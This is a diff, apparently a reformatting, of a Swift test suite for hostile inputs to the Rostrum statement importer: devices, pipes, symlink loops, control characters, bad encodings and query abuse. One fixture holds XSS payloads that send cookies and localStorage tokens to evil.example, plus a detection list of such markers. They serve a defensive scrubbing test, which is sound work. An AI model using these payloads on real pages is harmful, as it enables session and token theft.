@@ -1,6 +1,7 @@
 import Foundation
 import GRDB
 import XCTest
+
 @testable import StatementModel
 
 /// What a hostile probe of the import found (issue 17): devices, pipes, links, names and bytes built to
@@ -9,9 +10,12 @@ final class HostileInputTests: XCTestCase {
     func testADeviceIsRefusedNotReadWithoutEnd() throws {
         let library = try Fixture.library()
         // Before the fix this read /dev/zero until memory ran out; the deadline turns a hang into a failure.
-        let report = try XCTUnwrap(finishing(within: 60) { library.importFiles([URL(fileURLWithPath: "/dev/zero")]) },
-                                   "the import of /dev/zero did not finish")
-        XCTAssertEqual(report.failed, [.init(path: "/dev/zero", message: "not a regular file: a character device; Rostrum reads only files")])
+        let report = try XCTUnwrap(
+            finishing(within: 60) { library.importFiles([URL(fileURLWithPath: "/dev/zero")]) },
+            "the import of /dev/zero did not finish")
+        XCTAssertEqual(
+            report.failed,
+            [.init(path: "/dev/zero", message: "not a regular file: a character device; Rostrum reads only files")])
         XCTAssertEqual(report.imported, [])
         XCTAssertThrowsError(try FileBytes.read(URL(fileURLWithPath: "/dev/zero"), limit: 1_048_576)) {
             XCTAssertEqual($0 as? TextProblem, .notRegularFile(kind: "a character device"))
@@ -25,7 +29,8 @@ final class HostileInputTests: XCTestCase {
             guard case .tooLarge(let bytes, 64)? = error as? TextProblem else { return XCTFail("\(error)") }
             XCTAssertGreaterThan(bytes, 64)
         }
-        XCTAssertTrue(try Fixture.reader.decode(fileAt: proc).text.contains("Name:"), "below the limit it is read whole")
+        XCTAssertTrue(
+            try Fixture.reader.decode(fileAt: proc).text.contains("Name:"), "below the limit it is read whole")
     }
 
     func testANamedPipeIsRefusedWithoutOpeningIt() throws {
@@ -33,11 +38,19 @@ final class HostileInputTests: XCTestCase {
         let fifo = dir.appendingPathComponent("f.txt")
         XCTAssertEqual(mkfifo(fifo.path, 0o600), 0)
         // Opening a FIFO to read waits for a writer: should the import have opened it, this releases it.
-        defer { let fd = open(fifo.path, O_WRONLY | O_NONBLOCK); if fd >= 0 { close(fd) } }
+        defer {
+            let fd = open(fifo.path, O_WRONLY | O_NONBLOCK)
+            if fd >= 0 { close(fd) }
+        }
         let library = try Fixture.library(in: dir)
-        let report = try XCTUnwrap(finishing(within: 30) { library.importFiles([fifo]) }, "the import waited on the pipe")
-        XCTAssertEqual(report.failed, [.init(path: fifo.path, message: "not a regular file: a named pipe; Rostrum reads only files")])
-        XCTAssertThrowsError(try FileBytes.read(fifo)) { XCTAssertEqual($0 as? TextProblem, .notRegularFile(kind: "a named pipe")) }
+        let report = try XCTUnwrap(
+            finishing(within: 30) { library.importFiles([fifo]) }, "the import waited on the pipe")
+        XCTAssertEqual(
+            report.failed,
+            [.init(path: fifo.path, message: "not a regular file: a named pipe; Rostrum reads only files")])
+        XCTAssertThrowsError(try FileBytes.read(fifo)) {
+            XCTAssertEqual($0 as? TextProblem, .notRegularFile(kind: "a named pipe"))
+        }
     }
 
     /// Several processes' first open of one new library at once: each has its own connections, as
@@ -56,7 +69,8 @@ final class HostileInputTests: XCTestCase {
                     start.wait()
                     outcomes[i].value = Result {
                         let store = try SQLiteStatementStore(path: path)
-                        _ = try store.insert([Fixture.read("Statement \(i) of round \(round) on peacekeeping.")], sources: [])
+                        _ = try store.insert(
+                            [Fixture.read("Statement \(i) of round \(round) on peacekeeping.")], sources: [])
                         return store.createdLibrary
                     }
                     group.leave()
@@ -66,7 +80,8 @@ final class HostileInputTests: XCTestCase {
             XCTAssertEqual(group.wait(timeout: .now() + 60), .success, "the openers did not finish")
             let created = try outcomes.map { try XCTUnwrap($0.value).get() }
             XCTAssertEqual(created.filter { $0 }.count, 1, "exactly one opener made the library")
-            XCTAssertEqual(try SQLiteStatementStore(path: path).totalCount(), openers, "every opener's statement is stored")
+            XCTAssertEqual(
+                try SQLiteStatementStore(path: path).totalCount(), openers, "every opener's statement is stored")
         }
     }
 
@@ -81,9 +96,11 @@ final class HostileInputTests: XCTestCase {
         XCTAssertNil(try lister.seedIfEmpty(from: Fixture.data))
         XCTAssertEqual(try importer.store.totalCount(), 0, "the import's library holds only what it imports")
 
-        let fresh = StatementLibrary(store: try SQLiteStatementStore(path: Fixture.tempDir().appendingPathComponent("l.sqlite").path),
-                                     reader: Fixture.reader)
-        XCTAssertEqual(try fresh.seedIfEmpty(from: Fixture.data)?.imported.count, 2, "a library made by this open is seeded")
+        let fresh = StatementLibrary(
+            store: try SQLiteStatementStore(path: Fixture.tempDir().appendingPathComponent("l.sqlite").path),
+            reader: Fixture.reader)
+        XCTAssertEqual(
+            try fresh.seedIfEmpty(from: Fixture.data)?.imported.count, 2, "a library made by this open is seeded")
     }
 
     /// A library that cannot be opened is described in a short phrase (the tool prints it after the path),
@@ -95,12 +112,17 @@ final class HostileInputTests: XCTestCase {
         XCTAssertThrowsError(try SQLiteStatementStore(path: notes.path)) {
             XCTAssertEqual(StorageProblem.describe($0), "not a Rostrum library (file is not a database)")
         }
-        XCTAssertEqual(try String(contentsOf: notes, encoding: .utf8), "Just some notes, not a database.", "the file is untouched")
+        XCTAssertEqual(
+            try String(contentsOf: notes, encoding: .utf8), "Just some notes, not a database.", "the file is untouched")
         XCTAssertThrowsError(try SQLiteStatementStore(path: dir.path)) {
-            XCTAssertEqual(StorageProblem.describe($0), "cannot be opened (unable to open database file): a folder, or a place that cannot be written?")
+            XCTAssertEqual(
+                StorageProblem.describe($0),
+                "cannot be opened (unable to open database file): a folder, or a place that cannot be written?")
         }
         XCTAssertThrowsError(try SQLiteStatementStore(path: "/proc/rostrum-nowhere/library.sqlite")) {
-            XCTAssertEqual(StorageProblem.describe($0), "its folder /proc/rostrum-nowhere cannot be made: No such file or directory")
+            XCTAssertEqual(
+                StorageProblem.describe($0),
+                "its folder /proc/rostrum-nowhere cannot be made: No such file or directory")
         }
     }
 
@@ -111,8 +133,12 @@ final class HostileInputTests: XCTestCase {
         let input = dir.appendingPathComponent("in")
         let fm = FileManager.default
         try fm.createDirectory(at: input.appendingPathComponent("sub"), withIntermediateDirectories: true)
-        func put(_ name: String, _ text: String) throws { try text.write(to: input.appendingPathComponent(name), atomically: true, encoding: .utf8) }
-        func link(_ name: String, _ target: String) throws { try fm.createSymbolicLink(atPath: input.appendingPathComponent(name).path, withDestinationPath: target) }
+        func put(_ name: String, _ text: String) throws {
+            try text.write(to: input.appendingPathComponent(name), atomically: true, encoding: .utf8)
+        }
+        func link(_ name: String, _ target: String) throws {
+            try fm.createSymbolicLink(atPath: input.appendingPathComponent(name).path, withDestinationPath: target)
+        }
         try put("a.txt", "The Council must renew the sanctions regime this year.")
         try put("copy.txt", "The Council must renew the sanctions regime this year.")
         try link("link.txt", "a.txt")
@@ -121,26 +147,37 @@ final class HostileInputTests: XCTestCase {
         try link("dangling.txt", "nowhere.txt")
         try link("sub/up", "..")
         XCTAssertEqual(mkfifo(input.appendingPathComponent("pipe.txt").path, 0o600), 0)
-        defer { let fd = open(input.appendingPathComponent("pipe.txt").path, O_WRONLY | O_NONBLOCK); if fd >= 0 { close(fd) } }
+        defer {
+            let fd = open(input.appendingPathComponent("pipe.txt").path, O_WRONLY | O_NONBLOCK)
+            if fd >= 0 { close(fd) }
+        }
 
         let library = try Fixture.library(in: dir)
         let report = try XCTUnwrap(finishing(within: 60) { library.importFiles([input]) }, "the import did not finish")
-        func reason(_ name: String) -> String? { report.failed.first { $0.path == input.appendingPathComponent(name).path }?.message }
+        func reason(_ name: String) -> String? {
+            report.failed.first { $0.path == input.appendingPathComponent(name).path }?.message
+        }
         XCTAssertEqual(reason("loop1"), "a symbolic link loop: following it comes back round without reaching a file")
         XCTAssertEqual(reason("loop2"), reason("loop1"))
         XCTAssertEqual(reason("dangling.txt"), "a symbolic link to nothing: nowhere.txt does not exist")
         XCTAssertEqual(reason("pipe.txt"), "not a regular file: a named pipe; Rostrum reads only files")
-        XCTAssertTrue(reason("sub/up")?.hasPrefix("a symbolic link to a folder, not followed") ?? false, "\(report.failed)")
+        XCTAssertTrue(
+            reason("sub/up")?.hasPrefix("a symbolic link to a folder, not followed") ?? false, "\(report.failed)")
         XCTAssertEqual(report.failed.count, 5, "each named once: \(report.failed)")
         // The link to a file is read: the same text as a.txt, so it is said to be in the library already.
         XCTAssertEqual(report.importedFiles, [.init(path: input.appendingPathComponent("a.txt").path, statements: 1)])
-        XCTAssertEqual(Set(report.alreadyPresent.map { ($0.path as NSString).lastPathComponent }), ["copy.txt", "link.txt"])
+        XCTAssertEqual(
+            Set(report.alreadyPresent.map { ($0.path as NSString).lastPathComponent }), ["copy.txt", "link.txt"])
 
         // A folder inside that cannot be opened (as a user without the right would meet it; root may open anything).
-        var skipped: [ImportReport.Entry] = [], failed: [ImportReport.Entry] = []
+        var skipped: [ImportReport.Entry] = []
+        var failed: [ImportReport.Entry] = []
         let locked = input.appendingPathComponent("sub").path
         let files = FileCollector.collect([input], skipped: &skipped, failed: &failed) { path in
-            if path == locked { errno = EACCES; return nil }
+            if path == locked {
+                errno = EACCES
+                return nil
+            }
             return opendir(path)
         }
         XCTAssertEqual(failed.first { $0.path == locked }?.message, "the folder cannot be read: Permission denied")
@@ -152,30 +189,42 @@ final class HostileInputTests: XCTestCase {
         let dir = Fixture.tempDir()
         let input = dir.appendingPathComponent("in")
         try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
-        try "text,year,country\nWe call for a ceasefire now.,2019,France\nSanctions must be lifted.,2020,Cuba\nThe mandate is renewed.,2021,Ghana\n"
+        try
+            ("text,year,country\nWe call for a ceasefire now.,2019,France\nSanctions must be "
+                + "lifted.,2020,Cuba\nThe mandate is renewed.,2021,Ghana\n")
             .write(to: input.appendingPathComponent("speeches.csv"), atomically: true, encoding: .utf8)
-        try "A statement on peacekeeping operations.".write(to: input.appendingPathComponent("one.txt"), atomically: true, encoding: .utf8)
+        try "A statement on peacekeeping operations.".write(
+            to: input.appendingPathComponent("one.txt"), atomically: true, encoding: .utf8)
         let library = try Fixture.library(in: dir)
         let report = library.importFiles([input])
-        XCTAssertEqual(report.importedFiles, [.init(path: input.appendingPathComponent("one.txt").path, statements: 1),
-                                              .init(path: input.appendingPathComponent("speeches.csv").path, statements: 3)])
+        XCTAssertEqual(
+            report.importedFiles,
+            [
+                .init(path: input.appendingPathComponent("one.txt").path, statements: 1),
+                .init(path: input.appendingPathComponent("speeches.csv").path, statements: 3),
+            ])
         let again = library.importFiles([input])
-        XCTAssertEqual(again.unchangedFiles, report.importedFiles.map(\.path), "a re-import names what it did not read again")
+        XCTAssertEqual(
+            again.unchangedFiles, report.importedFiles.map(\.path), "a re-import names what it did not read again")
     }
 
     /// What the tool prints from a file: escape sequences, the bell, backspaces, C1 controls and
     /// direction overrides become visible, and a name's newline cannot start a line of its own.
     func testControlCharactersFromFilesArePrintedVisibly() {
         let title = "Ambassador \u{1B}[31mRed\u{1B}[0m speaks\u{07} to the Council\u{08}\u{08}"
-        XCTAssertEqual(VisibleText.escaped(title), "Ambassador \\u{1B}[31mRed\\u{1B}[0m speaks\\u{7} to the Council\\u{8}\\u{8}")
+        XCTAssertEqual(
+            VisibleText.escaped(title), "Ambassador \\u{1B}[31mRed\\u{1B}[0m speaks\\u{7} to the Council\\u{8}\\u{8}")
         XCTAssertEqual(VisibleText.escaped("x\nimported 99, failed 0\n.txt"), "x\\nimported 99, failed 0\\n.txt")
-        XCTAssertEqual(VisibleText.escaped("a\tb\u{9B}2J\u{7F}\u{202E}txt.exe"), "a\\tb\\u{9B}2J\\u{7F}\\u{202E}txt.exe")
-        XCTAssertEqual(VisibleText.escaped("Para one.\n\n\tPara two \u{1B}]0;title\u{07}", multiline: true),
-                       "Para one.\n\n\tPara two \\u{1B}]0;title\\u{7}", "a body keeps its lines and tabs")
+        XCTAssertEqual(
+            VisibleText.escaped("a\tb\u{9B}2J\u{7F}\u{202E}txt.exe"), "a\\tb\\u{9B}2J\\u{7F}\\u{202E}txt.exe")
+        XCTAssertEqual(
+            VisibleText.escaped("Para one.\n\n\tPara two \u{1B}]0;title\u{07}", multiline: true),
+            "Para one.\n\n\tPara two \\u{1B}]0;title\\u{7}", "a body keeps its lines and tabs")
         let ordinary = "Déclaration — 安全理事会 — مجلس الأمن «ok»"
         XCTAssertEqual(VisibleText.escaped(ordinary), ordinary, "letters of every script pass unchanged")
         for printed in [VisibleText.escaped(title), VisibleText.escaped(title, multiline: true)] {
-            XCTAssertFalse(printed.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, printed)
+            XCTAssertFalse(
+                printed.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, printed)
         }
     }
 
@@ -185,35 +234,48 @@ final class HostileInputTests: XCTestCase {
         let dir = Fixture.tempDir()
         let file = dir.appendingPathComponent("page.txt")
         try """
-            <script>document.location='http://evil.example/?c='+document.cookie</script>
-            <h1 onmouseover="alert(1)">Statement by the Ambassador on the humanitarian situation</h1>
-            <style>h1 { color: red }</style>
-            <img src=x onerror="alert(2)">
-            Mr. President,
+        <script>document.location='http://evil.example/?c='+document.cookie</script>
+        <h1 onmouseover="alert(1)">Statement by the Ambassador on the humanitarian situation</h1>
+        <style>h1 { color: red }</style>
+        <img src=x onerror="alert(2)">
+        Mr. President,
 
-            We thank the Secretary-General for his briefing on the <a href="javascript:alert(3)">humanitarian situation</a>.
-            <p>We call on all parties to respect international humanitarian law.</p>
-            <body onload="steal()">The Council must act now.</body>
-            <SCRIPT type="text/javascript">
-            fetch('http://evil.example/' + localStorage.token)
-            </SCRIPT>
-            """.write(to: file, atomically: true, encoding: .utf8)
+        We thank the Secretary-General for his briefing on the <a href="javascript:alert(3)">humanitarian situation</a>.
+        <p>We call on all parties to respect international humanitarian law.</p>
+        <body onload="steal()">The Council must act now.</body>
+        <SCRIPT type="text/javascript">
+        fetch('http://evil.example/' + localStorage.token)
+        </SCRIPT>
+        """.write(to: file, atomically: true, encoding: .utf8)
         let library = try Fixture.library(in: dir)
         let report = library.importFiles([file])
         let stored = try XCTUnwrap(try library.store.statement(id: XCTUnwrap(report.imported.first)))
         for text in [stored.title?.value ?? "", stored.displayTitle, stored.body, stored.raw] {
-            for hostile in ["<script", "</script", "<SCRIPT", "<style", "onmouseover", "onerror", "onload", "javascript:", "evil.example", "alert("] {
+            for hostile in [
+                "<script", "</script", "<SCRIPT", "<style", "onmouseover", "onerror", "onload", "javascript:",
+                "evil.example", "alert(",
+            ] {
                 XCTAssertFalse(text.contains(hostile), "“\(hostile)” survived in: \(text)")
             }
         }
-        XCTAssertTrue(stored.displayTitle.hasPrefix("Statement by the Ambassador on the humanitarian situation"), stored.displayTitle)
-        for words in ["We thank the Secretary-General", "respect international humanitarian law", "The Council must act now.", "briefing on the humanitarian situation</a>."] {
+        XCTAssertTrue(
+            stored.displayTitle.hasPrefix("Statement by the Ambassador on the humanitarian situation"),
+            stored.displayTitle)
+        for words in [
+            "We thank the Secretary-General", "respect international humanitarian law", "The Council must act now.",
+            "briefing on the humanitarian situation</a>.",
+        ] {
             XCTAssertTrue(stored.body.contains(words), "ordinary text is kept: \(words)")
         }
-        XCTAssertEqual(report.notes.filter { $0.message.hasPrefix("markup that runs code was removed") }.map(\.message),
-                       ["markup that runs code was removed: 2 script blocks, 1 style block, 4 tags with event handlers or javascript: links"])
-        XCTAssertEqual(MarkupScrubber.scrub("Trade < 5% and x > y; <b>bold</b> <a href=\"https://un.org\">UN</a>").removed, [],
-                       "comparisons and harmless tags are text")
+        XCTAssertEqual(
+            report.notes.filter { $0.message.hasPrefix("markup that runs code was removed") }.map(\.message),
+            [
+                "markup that runs code was removed: 2 script blocks, 1 style block, 4 tags with "
+                    + "event handlers or javascript: links"
+            ])
+        XCTAssertEqual(
+            MarkupScrubber.scrub("Trade < 5% and x > y; <b>bold</b> <a href=\"https://un.org\">UN</a>").removed, [],
+            "comparisons and harmless tags are text")
     }
 
     /// Bytes that were misread: binary without NUL bytes came in as Windows-1252 junk, UTF-16 without a
@@ -234,7 +296,9 @@ final class HostileInputTests: XCTestCase {
             XCTAssertGreaterThan(percent, 10)
         }
         // A text with a few escape sequences in it is still text (the tool prints them escaped).
-        let logged = "Ambassador \u{1B}[31mRed\u{1B}[0m speaks\u{07} to the Council\u{08}\u{08}\n\nWe call on all parties to respect the ceasefire agreed in Doha."
+        let logged =
+            "Ambassador \u{1B}[31mRed\u{1B}[0m speaks\u{07} to the Council\u{08}\u{08}\n\nWe call "
+                + "on all parties to respect the ceasefire agreed in Doha."
         XCTAssertEqual(try TextDecoder.decode(Array(logged.utf8)).text, logged)
         // Windows-1252 text is still read.
         let french = "La délégation française salue l’adoption de la résolution et réaffirme son soutien à la MINUSMA. "
@@ -243,13 +307,22 @@ final class HostileInputTests: XCTestCase {
 
         let sentence = "Mr. President, we support the peacekeeping mission in Mali.\n"
         for little in [true, false] {
-            let bytes = sentence.utf16.flatMap { little ? [UInt8($0 & 0xFF), UInt8($0 >> 8)] : [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
+            let bytes = sentence.utf16.flatMap {
+                little ? [UInt8($0 & 0xFF), UInt8($0 >> 8)] : [UInt8($0 >> 8), UInt8($0 & 0xFF)]
+            }
             let decoded = try TextDecoder.decode(bytes)
             XCTAssertEqual(decoded.text, sentence)
-            XCTAssertEqual(decoded.notes, ["converted from UTF-16\(little ? "LE" : "BE") to UTF-8 (no byte-order mark: its zero bytes tell the order)"])
+            XCTAssertEqual(
+                decoded.notes,
+                [
+                    "converted from UTF-16\(little ? "LE" : "BE") to UTF-8 (no byte-order mark: its "
+                        + "zero bytes tell the order)"
+                ])
         }
         XCTAssertThrowsError(try TextDecoder.decode([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00])) {
-            XCTAssertEqual(($0 as? TextProblem)?.description, "this is a zip archive (Word, Excel and OpenDocument files are zips too), not text")
+            XCTAssertEqual(
+                ($0 as? TextProblem)?.description,
+                "this is a zip archive (Word, Excel and OpenDocument files are zips too), not text")
         }
         XCTAssertThrowsError(try TextDecoder.decode([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D])) {
             XCTAssertEqual($0 as? TextProblem, .binaryFormat("a PNG image"))
@@ -265,16 +338,20 @@ final class HostileInputTests: XCTestCase {
         let dir = Fixture.tempDir()
         let input = dir.appendingPathComponent("in")
         try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
-        try "A statement on sanctions by the Council.".write(to: input.appendingPathComponent("good.txt"), atomically: true, encoding: .utf8)
+        try "A statement on sanctions by the Council.".write(
+            to: input.appendingPathComponent("good.txt"), atomically: true, encoding: .utf8)
         let latin1Name = Array(input.path.utf8) + Array("/caf".utf8) + [0xE9] + Array(".txt".utf8) + [0]
-        let fd = latin1Name.withUnsafeBufferPointer { open(UnsafeRawPointer($0.baseAddress!).assumingMemoryBound(to: CChar.self), O_WRONLY | O_CREAT, 0o644) }
+        let fd = latin1Name.withUnsafeBufferPointer {
+            open(UnsafeRawPointer($0.baseAddress!).assumingMemoryBound(to: CChar.self), O_WRONLY | O_CREAT, 0o644)
+        }
         XCTAssertGreaterThanOrEqual(fd, 0)
         _ = "A statement on peacekeeping.".withCString { write(fd, $0, strlen($0)) }
         close(fd)
         let library = try Fixture.library(in: dir)
         let report = library.importFiles([input])
         XCTAssertEqual(report.failed.map(\.path), [input.path + "/caf\\xE9.txt"])
-        XCTAssertTrue(report.failed.first?.message.hasPrefix("the file's name is not valid UTF-8") ?? false, "\(report.failed)")
+        XCTAssertTrue(
+            report.failed.first?.message.hasPrefix("the file's name is not valid UTF-8") ?? false, "\(report.failed)")
         XCTAssertEqual(report.importedFiles.map(\.path), [input.appendingPathComponent("good.txt").path])
     }
 
@@ -287,11 +364,15 @@ final class HostileInputTests: XCTestCase {
         let input = dir.appendingPathComponent("in")
         try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
         var rng = SeededRandom(seed: 9)
-        let words = ["peace", "sanctions", "council", "mandate", "ceasefire", "humanitarian", "resolution", "delegation", "security", "regional"]
+        let words = [
+            "peace", "sanctions", "council", "mandate", "ceasefire", "humanitarian", "resolution", "delegation",
+            "security", "regional",
+        ]
         let files = 400
         for i in 0..<files {
             let text = (0..<300).map { _ in words[Int(rng.next() % 10)] }.joined(separator: " ")
-            try "Statement \(i).\n\n\(text).".write(to: input.appendingPathComponent(String(format: "s%03d.txt", i)), atomically: false, encoding: .utf8)
+            try "Statement \(i).\n\n\(text).".write(
+                to: input.appendingPathComponent(String(format: "s%03d.txt", i)), atomically: false, encoding: .utf8)
         }
         let store = try SQLiteStatementStore(path: dir.appendingPathComponent("library.sqlite").path)
         let library = StatementLibrary(store: store, reader: Fixture.reader, batchSize: 20)
@@ -304,7 +385,8 @@ final class HostileInputTests: XCTestCase {
         XCTAssertEqual(report.failed, [], "no line per file for the full disk")
         XCTAssertGreaterThan(report.imported.count, 0)
         XCTAssertLessThan(report.imported.count, files)
-        XCTAssertEqual(try store.totalCount(), report.imported.count, "what the report says was stored is in the library")
+        XCTAssertEqual(
+            try store.totalCount(), report.imported.count, "what the report says was stored is in the library")
         XCTAssertEqual(stop.filesNotImported, files - report.importedFiles.count)
 
         try store.pool.writeWithoutTransaction { try $0.execute(sql: "PRAGMA max_page_count = 1073741823") }
@@ -322,13 +404,22 @@ final class HostileInputTests: XCTestCase {
         let library = try Fixture.library()
         try library.seedIfEmpty(from: Fixture.data)
         func reason(_ query: String) -> (reason: String, message: String)? {
-            do { _ = try library.store.count(StatementFilter(text: query)); return nil } catch RostrumError.invalidSearch(_, let reason) {
+            do {
+                _ = try library.store.count(StatementFilter(text: query))
+                return nil
+            } catch RostrumError.invalidSearch(_, let reason) {
                 return (reason, RostrumError.invalidSearch(query: query, reason: reason).description)
-            } catch { XCTFail("\(error)"); return nil }
+            } catch {
+                XCTFail("\(error)")
+                return nil
+            }
         }
         let hundredPrefixes = Array(repeating: "a*", count: 100).joined(separator: " OR ")
-        XCTAssertEqual(reason(hundredPrefixes)?.reason, "“a*” is too short a prefix: give at least 3 letters before the *")
-        XCTAssertEqual(reason("\"security co\"* OR peace")?.reason, "“co*” is too short a prefix: give at least 3 letters before the *")
+        XCTAssertEqual(
+            reason(hundredPrefixes)?.reason, "“a*” is too short a prefix: give at least 3 letters before the *")
+        XCTAssertEqual(
+            reason("\"security co\"* OR peace")?.reason,
+            "“co*” is too short a prefix: give at least 3 letters before the *")
         for size in [3_000, 100_000] {
             let pasted = String(repeating: "peace and security ", count: size / 19 + 1)
             let refused = try XCTUnwrap(reason(pasted), "\(size) bytes")
@@ -343,7 +434,8 @@ final class HostileInputTests: XCTestCase {
         let fts = try XCTUnwrap(reason("(peace) (security)"))
         XCTAssertEqual(fts.reason, "it could not be read near “(”")
         XCTAssertFalse(fts.message.contains("fts5"))
-        XCTAssertEqual(try library.store.count(StatementFilter(text: "secur* OR cyberspace")), 2, "ordinary searches still run")
+        XCTAssertEqual(
+            try library.store.count(StatementFilter(text: "secur* OR cyberspace")), 2, "ordinary searches still run")
     }
 
     /// Re-importing changed files finds each one's old statements by source path: a library made before
@@ -362,8 +454,10 @@ final class HostileInputTests: XCTestCase {
         XCTAssertEqual(library.importFiles([file]).imported.count, 1)
         let store = try XCTUnwrap(library.store as? SQLiteStatementStore)
         let plan = try store.pool.read { db in
-            try Row.fetchAll(db, sql: "EXPLAIN QUERY PLAN DELETE FROM statement WHERE source_path = ? AND id NOT IN (?)",
-                             arguments: [file.path, "x"]).map { $0["detail"] as String }
+            try Row.fetchAll(
+                db, sql: "EXPLAIN QUERY PLAN DELETE FROM statement WHERE source_path = ? AND id NOT IN (?)",
+                arguments: [file.path, "x"]
+            ).map { $0["detail"] as String }
         }
         XCTAssertTrue(plan.contains { $0.contains("statement_source_path") }, "\(plan)")
         XCTAssertFalse(plan.contains("SCAN statement"), "\(plan)")
@@ -380,7 +474,10 @@ final class HostileInputTests: XCTestCase {
 func finishing<T: Sendable>(within seconds: Double, _ body: @escaping @Sendable () -> T) -> T? {
     let box = Box<T>()
     let done = DispatchSemaphore(value: 0)
-    Thread.detachNewThread { box.value = body(); done.signal() }
+    Thread.detachNewThread {
+        box.value = body()
+        done.signal()
+    }
     guard done.wait(timeout: .now() + seconds) == .success else { return nil }
     return box.value
 }
@@ -390,7 +487,15 @@ final class Box<T>: @unchecked Sendable {
     private let lock = NSLock()
     private var stored: T?
     var value: T? {
-        get { lock.lock(); defer { lock.unlock() }; return stored }
-        set { lock.lock(); stored = newValue; lock.unlock() }
+        get {
+            lock.lock()
+            defer { lock.unlock() }
+            return stored
+        }
+        set {
+            lock.lock()
+            stored = newValue
+            lock.unlock()
+        }
     }
 }
